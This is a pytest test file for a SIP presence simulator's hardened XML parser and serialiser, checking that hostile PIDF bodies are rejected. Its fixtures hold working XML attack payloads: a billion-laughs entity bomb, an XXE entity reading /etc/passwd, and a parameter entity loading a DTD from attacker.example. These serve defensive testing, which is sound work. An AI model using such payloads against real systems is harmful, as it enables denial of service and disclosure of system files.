"""The safe parser and the Kamailio-style serialiser (puasim.bodies.xml)."""

from __future__ import annotations

import socket
import threading
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from puasim.bodies import BodyError, parse_document, parse_xml, serialise_formatted
from puasim.bodies.xml import XmlDeclaration, _new_parser, read_declaration

# ---------------------------------------------------------------- hostile input

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="&lol9;">
  <tuple id="t"><status><basic>open</basic></status><note>&lol9;</note></tuple>
</presence>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@example.com">
  <tuple id="t"><status><basic>open</basic></status><note>&xxe;</note></tuple>
</presence>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@example.com"/>
"""


def test_billion_laughs_is_refused_without_expansion():
    started = time.monotonic()
    with pytest.raises(BodyError) as info:
        parse_xml(BILLION_LAUGHS, what="PIDF")
    assert time.monotonic() - started < 1.0
    assert "entity" in str(info.value)
    assert info.value.line == 2  # the DOCTYPE line
    assert "lollol" not in str(info.value)
    assert str(info.value).startswith("PIDF body: ")


def test_external_file_entity_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    doc = XXE_FILE.replace(b"file:///etc/passwd", f"file://{secret}".encode())
    for data in (XXE_FILE, doc):
        with pytest.raises(BodyError) as info:
            parse_xml(data, what="PIDF")
        assert "DOCTYPE" in str(info.value)
        assert "TOP-SECRET-MARKER" not in str(info.value)
        assert "root:" not in str(info.value)


def test_parameter_entity_and_external_dtd_are_refused():
    with pytest.raises(BodyError, match="entity"):
        parse_xml(PARAMETER_ENTITY, what="PIDF")
    with pytest.raises(BodyError, match="external DTD"):
        parse_xml(b'<!DOCTYPE x SYSTEM "http://example.com/x.dtd"><x/>', what="PIDF")
    with pytest.raises(BodyError, match="DOCTYPE"):
        parse_xml(b"<!DOCTYPE x><x/>", what="PIDF")


def test_doctype_in_utf16_is_refused_too():
    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    with pytest.raises(BodyError, match="entity"):
        parse_xml(data.encode("utf-16"), what="PIDF")


@pytest.fixture
def listening_port():
    """A local TCP listener recording whether anything connects to it."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.3)
    hits: list[object] = []

    def accept():
        try:
            conn, _ = server.accept()
            hits.append(conn)
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=accept)
    thread.start()
    yield server.getsockname()[1], hits
    thread.join()
    server.close()


def test_http_entity_is_never_fetched(listening_port):
    port, hits = listening_port
    url = f"http://127.0.0.1:{port}/evil".encode()
    docs = [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "' + url + b'">]><x>&e;</x>',
        b'<!DOCTYPE x SYSTEM "' + url + b'"><x/>',
    ]
    for data in docs:
        with pytest.raises(BodyError):
            parse_xml(data, what="dialog-info")
        # the second line of defence alone (lxml parser settings) does not fetch
        # either: libxml2 reports "Attempt to load network entity" instead
        try:
            etree.fromstring(data, _new_parser())
        except etree.XMLSyntaxError as exc:
            assert "network" in str(exc)
    time.sleep(0.35)
    assert hits == []


def test_parser_settings_alone_do_not_expand_entities():
    root = etree.fromstring(XXE_FILE, _new_parser())
    note = root.find(".//{urn:ietf:params:xml:ns:pidf}note")
    assert "root:" not in etree.tostring(note, encoding="unicode")
    with pytest.raises(etree.XMLSyntaxError):  # libxml2's amplification guard
        etree.fromstring(BILLION_LAUGHS, _new_parser())


# ---------------------------------------------------------------- malformed input


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"<presence>\n  <tuple>\n</presence>\n", 3),
        (b"<a>\n<b x='1' x='2'/></a>", 2),
        (b"<a>&undefined;</a>", 1),
        (b"<a/><b/>", 1),
        (b"\x00\x01\x02", 1),
        (b"<a xmlns:p='urn:x'><q:b/></a>", 1),
    ],
)
def test_malformed_xml_gives_body_error_with_line(data, line):
    with pytest.raises(BodyError) as info:
        parse_xml(data, what="reginfo")
    assert info.value.line == line
    assert str(info.value).startswith("reginfo body: malformed XML")
    assert isinstance(info.value, ValueError)


@pytest.mark.parametrize("data", [b"", b"   \n", b"<?xml version='1.0'?>"])
def test_empty_documents(data):
    with pytest.raises(BodyError):
        parse_xml(data, what="PIDF")


def test_unsupported_encoding():
    with pytest.raises(BodyError, match="encoding"):
        parse_xml(b'<?xml version="1.0" encoding="klingon"?><x/>', what="PIDF")


def test_str_input_is_caller_misuse():
    with pytest.raises(TypeError):
        parse_xml("<x/>", what="PIDF")  # type: ignore[arg-type]


# ---------------------------------------------------------------- declaration


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"<x/>", XmlDeclaration()),
        (b'<?xml version="1.0"?><x/>', XmlDeclaration("1.0")),
        (b"<?xml version='1.0' encoding='utf-8'?><x/>", XmlDeclaration("1.0", "utf-8")),
        (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><x/>',
            XmlDeclaration("1.0", "UTF-8", True),
        ),
        (
            b'\xef\xbb\xbf<?xml version="1.0" standalone="no"?><x/>',
            XmlDeclaration("1.0", None, False),
        ),
        (
            '<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16"),
            XmlDeclaration("1.0", "UTF-16"),
        ),
    ],
)
def test_read_declaration(data, expected):
    assert read_declaration(data) == expected


# ---------------------------------------------------------------- serialisation


def reformat(data: bytes) -> bytes:
    parsed = parse_document(data, what="test")
    return serialise_formatted(parsed.root, parsed.declaration)


def test_one_line_input_is_indented_two_spaces():
    data = (
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@example.com">'
        b'<tuple id="t1"><status><basic>open</basic></status></tuple></presence>'
    )
    assert reformat(data) == (
        b'<?xml version="1.0"?>\n'
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@example.com">\n'
        b'  <tuple id="t1">\n'
        b"    <status>\n"
        b"      <basic>open</basic>\n"
        b"    </status>\n"
        b"  </tuple>\n"
        b"</presence>\n"
    )


def test_whitespace_text_switches_formatting_off_for_that_subtree_only():
    # libxml2: an element with any text child is written as it is, subtree included
    assert reformat(b"<a><b>\n  <c/>\n</b><d><e/></d></a>") == (
        b'<?xml version="1.0"?>\n<a>\n  <b>\n  <c/>\n</b>\n  <d>\n    <e/>\n  </d>\n</a>\n'
    )


def test_indented_input_is_kept_byte_for_byte():
    data = (
        b'<?xml version="1.0"?>\n<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" '
        b'version="0" state="full">\n   <registration aor="sip:a@b" id="x" '
        b'state="init"/>\n</reginfo>\n'
    )
    assert reformat(data) == data


def test_lab_capture_body_comes_back_unchanged():
    # lab/kamailio/captures/a-b-c_publish_modify_unpublish_restart.txt: the RPC
    # handed pua bodies/pidf-open.xml without its final newline ($(cat ...)),
    # Kamailio sent 237 bytes: declaration (with encoding) kept, newline added.
    sent = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:alice@127.0.0.1">\n'
        b'  <tuple id="t-alice-1">\n'
        b"    <status><basic>open</basic></status>\n"
        b"    <note>available (lab)</note>\n"
        b"  </tuple>\n"
        b"</presence>\n"
    )
    assert len(sent) == 237
    assert reformat(sent.rstrip(b"\n")) == sent


def test_declaration_is_written_as_the_input_declared_it():
    assert reformat(b"<?xml version='1.0' encoding='utf-8'?><x/>") == (
        b'<?xml version="1.0" encoding="utf-8"?>\n<x/>\n'
    )
    assert reformat(b'<?xml version="1.0" standalone="yes"?><x/>') == (
        b'<?xml version="1.0" standalone="yes"?>\n<x/>\n'
    )
    assert reformat(b"<x/>") == b'<?xml version="1.0"?>\n<x/>\n'


def test_non_ascii_without_declared_encoding_becomes_hex_references():
    data = '<a x="é"><!-- é -->é€<b/></a>'.encode()
    assert reformat(data) == (
        b'<?xml version="1.0"?>\n<a x="&#xE9;"><!-- \xc3\xa9 -->&#xE9;&#x20AC;<b/></a>\n'
    )


def test_non_ascii_with_declared_encodings():
    utf8 = '<?xml version="1.0" encoding="UTF-8"?><a x="é">é</a>'.encode()
    assert reformat(utf8) == '<?xml version="1.0" encoding="UTF-8"?>\n<a x="é">é</a>\n'.encode()
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1")
    out = reformat(latin)
    assert out == b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<a>\xe9</a>\n'
    root = parse_document(latin, what="t")
    root.root.text = "é€"
    assert serialise_formatted(root.root, root.declaration).endswith(b"<a>\xe9&#8364;</a>\n")


def test_escaping_of_markup_characters():
    data = b"""<a x="&#13;&#10;&#9;&lt;&gt;&amp;&quot;'">&lt;&gt;&amp;"'&#13;</a>"""
    assert reformat(data) == (
        b'<?xml version="1.0"?>\n'
        b"""<a x="&#13;&#10;&#9;&lt;&gt;&amp;&quot;'">&lt;&gt;&amp;"'&#xD;</a>\n"""
    )


def test_comments_pis_and_cdata_keep_their_place():
    assert reformat(b"<!--top--><a><![CDATA[<x>]]><b/></a><?pi data?>") == (
        b'<?xml version="1.0"?>\n<!--top-->\n<a><![CDATA[<x>]]><b/></a>\n<?pi data?>\n'
    )


def test_namespaced_attributes_are_escaped_like_others():
    data = '<a xmlns="urn:x" xmlns:p="urn:y" p:x="ü"><p:b/></a>'.encode()
    assert reformat(data) == (
        b'<?xml version="1.0"?>\n<a xmlns="urn:x" xmlns:p="urn:y" p:x="&#xFC;">\n  <p:b/>\n</a>\n'
    )


def test_namespace_problems_libxml2_2_9_would_only_warn_about_are_refused():
    # documented deviation: lxml's libxml2 rejects what Kamailio's accepts
    with pytest.raises(BodyError, match="not a valid URI"):
        parse_xml('<a xmlns="urn:é"/>'.encode(), what="PIDF")


def test_serialise_needs_the_root():
    root = parse_xml(b"<a><b/></a>", what="t")
    with pytest.raises(ValueError):
        serialise_formatted(root[0])


def test_serialise_is_a_fixed_point():
    data = b'<a xmlns="urn:x"><b y="1">t</b><c><d/></c></a>'
    once = reformat(data)
    assert reformat(once) == once


@pytest.mark.parametrize("doc", [
    '<a x="1" y=\'2\'>text</a>',
    "<?xml-stylesheet href='x'?><a><!-- c &#13; --><![CDATA[ &#13; ]]>t&#13;u</a>",
    '<a x="&#13;">&#13;</a>',
    '<a xmlns:p="urn:x">&amp;&lt;</a>',
    "<a>\u00e9</a>",
    '<a x="\u20ac" xmlns:q="urn:\u00e9"><!-- \u00e9 --></a>',
    "",
])
def test_the_ascii_shortcut_writes_what_the_walk_writes(doc: str) -> None:
    from puasim.bodies.xml import _ascii_escape, _escape_walk

    assert _ascii_escape(doc) == _escape_walk(doc)


@given(st.text(alphabet=st.sampled_from(list("<>!-?[]CDATA&#13;x=\"' /\u00e9a")), max_size=60))
def test_the_ascii_shortcut_agrees_on_any_text(doc: str) -> None:
    from puasim.bodies.xml import _ascii_escape, _escape_walk

    assert _ascii_escape(doc) == _escape_walk(doc)
